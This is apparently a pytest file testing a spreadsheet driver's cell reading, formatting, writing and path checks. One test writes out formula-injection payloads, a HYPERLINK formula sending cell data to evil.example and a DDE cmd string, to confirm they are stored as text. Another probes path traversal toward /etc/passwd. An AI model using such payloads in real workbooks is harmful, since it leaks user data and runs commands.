"""The spreadsheet driver on real workbooks (openpyxl) and CSV exports."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from rote.drivers.sheets import Sheets, display_text, format_date, format_number
from rote.generator.runtime import ActionError, Unsupported


def test_display_text_renders_what_excel_shows() -> None:
    d = dt.date(1986, 3, 11)
    assert display_text(d, "dd/mm/yyyy") == "11/03/1986"
    assert display_text(dt.datetime(1986, 3, 11), "mm-dd-yy") == "03-11-86"
    assert display_text(dt.datetime(2020, 1, 2, 15, 4, 5), "yyyy-mm-dd hh:mm:ss") == "2020-01-02 15:04:05"
    assert display_text(dt.datetime(2020, 1, 2, 15, 4), "h:mm AM/PM") == "3:04 PM"
    assert display_text(d, "d mmm yyyy") == "11 Mar 1986"
    assert display_text(d, "dddd, mmmm d") == "Tuesday, March 11"
    assert display_text(d, "General") == "11/03/1986"  # a date with no date format: day first
    assert display_text(42.0, "General") == "42"
    assert display_text(0.1 + 0.2, "General") == "0.3"
    assert display_text(1234.5, "#,##0.00") == "1,234.50"
    assert display_text(0.256, "0.0%") == "25.6%"
    assert display_text(7, "0.000") == "7.000"
    assert display_text(3.5, '[Red]0.0;"neg"') == "3.5"
    assert display_text(True) == "TRUE" and display_text(None) == ""
    assert display_text("+61 039 689 9324", "@") == "+61 039 689 9324"
    assert format_number(12.5, "€ 0.00 weird") == "12.5"  # unknown formats fall back to General
    assert format_date(dt.time(9, 5), "hh:mm") == "09:05"


@pytest.fixture
def book(tmp_path: Path) -> Path:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "Sheet1"
    ws["A2"] = "John"
    ws["C2"] = dt.date(1986, 3, 11)
    ws["C2"].number_format = "dd/mm/yyyy"
    ws["D2"] = "=1+1"
    other = wb.create_sheet("Other")
    other["B5"] = 12
    path = tmp_path / "Book.xlsx"
    wb.save(path)
    return path


def test_reads_cells_and_copies_to_the_shared_clipboard(book: Path) -> None:
    clip = [""]
    s = Sheets(book.parent, clip)
    assert s.perform("read_cell", {"workbook": "Book.xlsx", "sheet": "Sheet1", "cell": "A2"}, None) == "John"
    assert (
        s.perform("copy_cell", {"workbook": "Book.xlsx", "sheet": "Sheet1", "cell": "$C$2"}, None)
        == "11/03/1986"
    )
    assert clip == ["11/03/1986"]
    assert s.perform("read_cell", {"workbook": "Book.xlsx", "sheet": "Other", "cell": "B5"}, None) == "12"
    assert s.perform("read_cell", {"workbook": "Book.xlsx", "cell": "Z99"}, None) == ""
    with pytest.raises(ActionError, match="no sheet 'Nope'"):
        s.perform("read_cell", {"workbook": "Book.xlsx", "sheet": "Nope", "cell": "A1"}, None)
    with pytest.raises(ActionError, match="not in"):
        s.perform("read_cell", {"workbook": "Missing.xlsx", "cell": "A1"}, None)
    with pytest.raises(ActionError, match="not a cell"):
        s.perform("read_cell", {"workbook": "Book.xlsx", "cell": "A"}, None)
    with pytest.raises(Unsupported):
        s.perform("click", {"field": "x"}, None)


def test_writes_keep_formulas_and_are_saved_at_the_end(book: Path) -> None:
    clip = ["pasted"]
    s = Sheets(book.parent, clip)
    s.perform("fill_field", {"workbook": "Book.xlsx", "sheet": "Sheet1", "cell": "B2"}, "Doe")
    s.perform("paste", {"workbook": "Book.xlsx", "sheet": "Sheet1", "cell": "E2"}, None)
    assert s.perform("read_cell", {"workbook": "Book.xlsx", "sheet": "Sheet1", "cell": "B2"}, None) == "Doe"
    assert load_workbook(book)["Sheet1"]["B2"].value is None  # not saved before the run ends
    s.close()
    ws = load_workbook(book)["Sheet1"]
    assert ws["B2"].value == "Doe" and ws["E2"].value == "pasted"
    assert ws["D2"].value == "=1+1"  # the formula survived the write


def test_a_value_that_looks_like_a_formula_is_written_as_text(book: Path) -> None:
    """An attacker's sweep: recorded values `=HYPERLINK(...)` and a DDE `=cmd|...` were written into the
    user's workbook as formulas."""
    s = Sheets(book.parent)
    evil = '=HYPERLINK("https://evil.example/?d="&A2,"x")'
    s.perform("fill_field", {"workbook": "Book.xlsx", "sheet": "Sheet1", "cell": "B2"}, evil)
    s.perform("fill_field", {"workbook": "Book.xlsx", "sheet": "Sheet1", "cell": "B3"}, "=cmd|' /C calc'!A0")
    s.close()
    ws = load_workbook(book)["Sheet1"]
    assert ws["B2"].value == evil and ws["B2"].data_type == "s"
    assert ws["B3"].data_type == "s" and ws["D2"].data_type == "f"  # the book's own formula stays one


def test_xlsm_and_csv(tmp_path: Path) -> None:
    (tmp_path / "Export.csv").write_text('a,b\n1,"x, y"\n', encoding="utf-8")
    s = Sheets(tmp_path)
    assert s.perform("read_cell", {"workbook": "Export.xlsx", "cell": "B2"}, None) == "x, y"
    with pytest.raises(ActionError, match="CSV export"):
        s.perform("fill_field", {"workbook": "Export.xlsx", "cell": "A1"}, "z")
    wb = Workbook()
    wb.active["A1"] = "macro book"
    wb.save(tmp_path / "Macro.xlsm")
    assert (
        Sheets(tmp_path).perform("read_cell", {"workbook": "Macro.xlsm", "cell": "A1"}, None) == "macro book"
    )


def test_paths_cannot_leave_the_root(tmp_path: Path) -> None:
    with pytest.raises(ActionError, match="refusing"):
        Sheets(tmp_path).perform("read_cell", {"workbook": "../../etc/passwd.xlsx", "cell": "A1"}, None)
